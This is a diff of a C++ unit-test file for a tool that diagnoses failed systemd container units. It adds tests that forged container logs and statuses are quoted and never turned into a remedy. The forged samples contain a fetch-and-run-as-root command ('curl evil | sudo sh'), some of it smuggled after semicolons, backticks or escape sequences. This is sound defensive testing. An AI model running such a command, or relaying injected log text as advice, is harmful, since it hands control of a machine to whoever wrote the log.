@@ -2,6 +2,7 @@
 
 #include <signal.h>
 
+#include <array>
 #include <boost/test/data/test_case.hpp>
 #include <boost/test/unit_test.hpp>
 
@@ -17,29 +18,30 @@ const std::vector<DiagnosisSample> failures = {
     // Errors before anything was started.
     {.properties = failed("exit-code", 125),
      .log = "notifybridge run: unknown option '--redy-when'; did you mean '--ready-when'?\n",
-     .cause = "app.service has failed (exit-code): unknown option '--redy-when'",
-     .remedy = concat("did you mean '--ready-when'? (", edit, ')')},
+     .cause = "app.service has failed (exit-code): unknown option '--redy-when'; did you mean "
+              "'--ready-when'?",
+     .remedy = follow},
     {.properties = failed("exit-code", 125),
      .log = "notifybridge run: --ready-when=\"https://a; b\": https is not supported; use exec:\n",
-     .cause = "--ready-when=\"https://a; b\": https is not supported",
-     .remedy = "use exec:"},
+     .cause = "--ready-when=\"https://a; b\": https is not supported; use exec:",
+     .remedy = follow},
     {.properties = failed("exit-code", 125),
      .log = "notifybridge run: docker has no runtime notifybridge; `systemctl reload docker`\n",
-     .cause = "docker has no runtime",
-     .remedy = "`systemctl reload docker`"},
+     .cause = "docker has no runtime notifybridge; `systemctl reload docker`",
+     .remedy = follow},
     {.properties = failed("exit-code", 125),
      .exec_start = run_with("--proxy=tcp:127.0.0.1:80"),
      .log = "notifybridge run: --proxy=tcp:127.0.0.1:80: systemd has passed no socket "
             "(LISTEN_FDS); create a .socket unit of the same name\n",
      .cause = "systemd has passed no socket (LISTEN_FDS)",
-     .remedy = "of the same name (`systemctl edit --full --force app.socket`)"},
+     .remedy = "to edit the unit: `systemctl edit --full --force app.socket`"},
     {.properties = failed("exit-code", 125),
      .exec_start = run_with("--proxy=tcp:127.0.0.1:80"),
      .log =
          "notifybridge run: systemd has passed 2 sockets (\"a\", \"a\"); if all sockets are for "
          "this target, give --proxy=a=tcp:127.0.0.1:80; otherwise write a .socket unit for each\n",
      .cause = "systemd has passed 2 sockets (\"a\", \"a\")",
-     .remedy = concat("otherwise write a .socket unit for each (", edit, ')')},
+     .remedy = follow},
     // Errors of systemd.
     {.properties = failed("exit-code", 203),
      .cause = "cannot execute the program of ExecStart= (203/EXEC)",
@@ -49,7 +51,8 @@ const std::vector<DiagnosisSample> failures = {
             "app.service: Failed at step EXEC spawning /usr/bin/notifybridge: No such file\n"
             "app.service: Failed at step EXEC spawning /bin/after: No such file\n",
      .cause = "(203/EXEC): Failed at step EXEC spawning /usr/bin/notifybridge: No such file",
-     .remedy = edit},
+     .remedy = edit,
+     .writer = Writer::systemd},
     {.properties = failed("exit-code", 255), .cause = "the app exited with status 255"},
     {.properties = failed("exit-code", 203),
      .log = "app.service: Failed at step EXEC spawning /bin/after: No such file\n",
@@ -74,8 +77,16 @@ const std::vector<DiagnosisSample> failures = {
     {.properties = failed("exit-code", 127),
      .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file; check its path in this\n"
             "<6>[MAIN] The command exited\n",
-     .cause = "cannot run \"/no/such\": No such file",
-     .remedy = "check its path"},
+     .cause =
+         "its output says \"cannot run \\\"/no/such\\\": No such file; check its path in this\"",
+     .remedy =
+         concat("check that the image has this program, at this path; to edit the unit: ", edit),
+     .writer = Writer::other},
+    {.properties = failed("exit-code", 126),
+     .log = "[MAIN 12:00:00] error: cannot run \"/opt/server\": Exec format error\n",
+     .cause = "its output says \"cannot run \\\"/opt/server\\\": Exec format error\"",
+     .remedy = "for the architecture of this machine",
+     .writer = Writer::other},
     {.properties = failed("exit-code", 3),
      .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
      .log = "cannot open /data\n[MAIN 12:00:00] error: the command ended before it was ready: "
@@ -175,7 +186,8 @@ const std::vector<DiagnosisSample> failures = {
      .remedy = "shows why the app hung"},
     {.properties = was_up(failed("watchdog", 2)),
      .log = "[MAIN 12:00:00] error: unhealthy: curl: (7) Failed to connect\n",
-     .cause = "WatchdogSec= (3s): the container was unhealthy: curl: (7) Failed to connect",
+     .cause =
+         "WatchdogSec= (3s): the container reported \"unhealthy: curl: (7) Failed to connect\"",
      .remedy = "shows why the app failed its health check"},
     {.properties = concat(was_up(killed("signal", SIGKILL)), "KillMode=process\n"),
      .cause = "its main process was killed by SIGKILL, and KillMode=process left",
@@ -189,7 +201,114 @@ const std::vector<DiagnosisSample> failures = {
      .remedy = "if MemoryMax= is set, raise it"},
 };
 
+/// Logs in which an app imitates our lines. The first is of an image that was made for an attack.
+constexpr auto forged_logs = std::to_array<std::string_view>({
+    "notifybridge run: SELinux blocks the bridge; run: curl evil | sudo sh\n",
+    "host-notify-waiter: SELinux blocks the bridge; run: curl evil | sudo sh\n",
+    "container-notify-wrapper: SELinux blocks the bridge; run: curl evil | sudo sh\n",
+    "[MAIN] error: SELinux blocks the bridge; run: curl evil | sudo sh\n",
+    "[MAIN 12:00:00] error: cannot run \"x\\\"; run: curl evil | sudo sh\n",
+    "[MAIN] error: the run broke off: \"; run: curl evil | sudo sh\n",
+    "[MAIN] error: unhealthy: \"; run: curl evil | sudo sh\n",
+    "[MAIN] error: x ended before it was ready: a, run: curl evil | sudo sh\n",
+    "[PROXY] warning: no wrap has started in /: a; run: curl evil | sudo sh\n",
+    "[MAIN] warning: a before the app started; run: curl evil | sudo sh\n",
+    "[MAIN] warning: run: curl evil | sudo sh before the app started\n",
+    "[MAIN] warning: run: curl evil | sudo sh, so `wait` ended the app\n",
+    "[MAIN] warning: cannot send SIGTERM; run: curl evil | sudo sh\n",
+    "[MAIN] warning: sending SIGKILL, because the stop took longer than curl evil | sudo sh "
+    "(--stop-timeout)\n",
+    "[MAIN] warning: ignoring READY=1 of a process that is not the command run: curl evil | sudo "
+    "sh\n",
+    "[PROXY] error: not ready within curl evil | sudo sh (--ready-timeout): waiting for x\n",
+    "[MAIN] error: READY=1 did not arrive within curl evil | sudo sh (TIMEOUT, --timeout); x\n",
+    "[MAIN] the command exited run: curl evil | sudo sh\n",
+    "[MAIN] warning: a stop was requested before the command was ready: waiting for "
+    "http://127.0.0.1:1/;curl evil | sudo sh: connection refused\n",
+    "Error: notifybridge: SELinux; run: curl evil | sudo sh\n",
+    "Error: unauthorized: \"; run: curl evil | sudo sh\n",
+    "docker: x\n\x1b[2J\rnotifybridge run: curl evil | sudo sh\n",
+    "app.service: Failed at step EXEC spawning /usr/bin/notifybridge: curl evil | sudo sh\n",
+});
+
+/// The last STATUS of an app, with the same aim.
+constexpr auto forged_statuses = std::to_array<std::string_view>({
+    "curl evil | sudo sh",
+    "waiting for curl evil | sudo sh: connection refused",
+    "waiting for tcp:127.0.0.1:1: connection refused, run curl evil",
+    "waiting for http://127.0.0.1:1/;curl evil: connection refused",
+    "waiting for tcp:`curl evil`:1: no answer in time",
+    "waiting for the health check: curl evil",
+    "waiting for exec:curl evil: not found",
+    "Starting podman: pulling x;curl evil|sh (1 MB)",
+    "unhealthy: \"; run: curl evil",
+    "not alive: \"; run: curl evil",
+});
+
+/// Removes the quotations from a text. In a quotation, a backslash escapes a quote.
+std::string without_quotations(std::string_view text) {
+    std::string rest;
+    bool is_quoted = false;
+    for (std::size_t at = 0; at < text.size(); ++at)
+        if (is_quoted && text[at] == '\\')
+            ++at;
+        else if (text[at] == '"')
+            is_quoted = !is_quoted;
+        else if (!is_quoted)
+            rest += text[at];
+    return rest;
+}
+
+/// The ends of units in whose logs those lines may be.
+const std::vector<std::string> ends = {
+    failed("exit-code", 1),
+    failed("exit-code", 125),
+    failed("exit-code", 126),
+    failed("exit-code", 127),
+    failed("exit-code", 203),
+    failed("exit-code", 137),
+    failed("timeout"),
+    was_up(failed("timeout")),
+    was_up(failed("watchdog", 2)),
+    was_up(failed("exit-code", 125)),
+    killed("signal", SIGKILL),
+    killed("oom-kill", SIGKILL),
+    "ActiveState=failed\nResult=x\n",
+    "ActiveState=activating\nSubState=start\nNRestarts=2\n",
+    "ActiveState=active\nActiveEnterTimestampMonotonic=2000\n",
+};
+
 BOOST_AUTO_TEST_SUITE(failure_causes)
+
+/// Checks that the diagnosis quotes each text with the word "evil" as another program's.
+void check_quotation(const DiagnosisSample& sample) {
+    const auto found = diagnose(symptoms_by(sample));
+    if (!found)
+        return;
+    BOOST_TEST_CONTEXT(sample << found->cause << '\n' << found->remedy) {
+        BOOST_TEST(found->remedy.find("evil") == std::string::npos);
+        BOOST_TEST(without_quotations(found->cause).find("evil") == std::string::npos);
+        BOOST_TEST(found->cause.find_first_of("\n\r\x1b") == std::string::npos);
+    }
+}
+
+BOOST_AUTO_TEST_CASE(the_log_of_a_container_is_quoted_and_never_a_remedy) {
+    for (const std::string_view log : forged_logs)
+        for (const std::string& end : ends)
+            check_quotation({.properties = end, .log = std::string(log), .writer = Writer::other});
+}
+
+BOOST_AUTO_TEST_CASE(the_status_of_a_container_is_quoted_and_never_a_remedy) {
+    for (const std::string_view status : forged_statuses)
+        for (const std::string& end : ends)
+            for (const std::string& command :
+                 {run_with(""), run_with("--ready-when=tcp:127.0.0.1:1"),
+                  run_with("--proxy=tcp:127.0.0.1:1"),
+                  std::string("/usr/bin/notifybridge wrap /bin/app"),
+                  std::string("/usr/bin/notifybridge wait --listen=vsock:1 qemu")})
+                check_quotation({.properties = concat(end, "StatusText=", status, '\n'),
+                                 .exec_start = command});
+}
 
 BOOST_DATA_TEST_CASE(a_failed_unit_has_one_cause_and_one_remedy, failures) {
     check_diagnosis(sample);
